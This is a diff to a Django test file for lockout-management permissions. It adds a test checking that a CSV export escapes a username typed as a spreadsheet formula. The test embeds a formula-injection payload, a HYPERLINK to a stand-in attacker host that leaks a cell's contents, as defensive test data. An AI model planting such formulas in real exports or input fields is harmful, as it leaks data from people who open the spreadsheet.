@@ -1,5 +1,8 @@
 """Who can see and lift lockouts: editors and superusers, and nobody else."""
 
+import csv
+import io
+
 import pytest
 from axes.models import AccessAttempt
 
@@ -93,3 +96,13 @@ def test_clearing_a_row_that_is_gone_is_a_404_not_an_error(client, locked):
     client.force_login(locked.editor)
     assert client.post(reverse(CLEAR_URL_NAME, args=[999_999])).status_code == 404
     assert client.get(reverse(CLEAR_URL_NAME, args=[writer_row().pk])).status_code == 405
+
+
+def test_a_username_typed_as_a_formula_is_text_in_the_csv_export(client, editorial):
+    # A bot chooses the username; an editor opens the export in a spreadsheet.
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
+    sign_in(Client(), formula, "wrong", BOT_ADDRESS)
+    client.force_login(editorial.editor)
+    export = client.get(reverse(REPORT_URL_NAME) + "?export=csv")
+    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
+    assert [row["Username"] for row in rows] == ["'" + formula]
